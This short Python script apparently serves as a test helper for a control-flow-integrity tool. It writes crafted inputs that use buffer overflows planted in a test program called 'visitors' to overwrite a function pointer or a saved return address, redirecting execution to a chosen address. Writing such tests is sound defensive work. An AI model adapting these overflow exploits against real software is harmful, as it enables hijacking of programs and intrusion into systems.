#!/usr/bin/env python3
"""Writes an input of the program `visitors` that uses one of its planted faults to go to an address.

    python3 tests/real/attack.py pointer|return ADDRESS > FILE

ADDRESS is hexadecimal, as `nm` or a map of `rvcfi rewrite` prints it.
"""

import struct
import sys


def pointer(address):
    """A name longer than its array, over the pointer behind it, and a greeting, which calls that pointer."""
    return b"n\x20" + b"A" * 24 + struct.pack("<Q", address) + b"g\1"


def returned(address):
    """A message longer than its array, over all that its function keeps behind it, the return address among it."""
    return b"m\x60" + struct.pack("<Q", address) * 12


ATTACKS = {"pointer": pointer, "return": returned}

if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    sys.stdout.buffer.write(ATTACKS[sys.argv[1]](int(sys.argv[2], 16)))
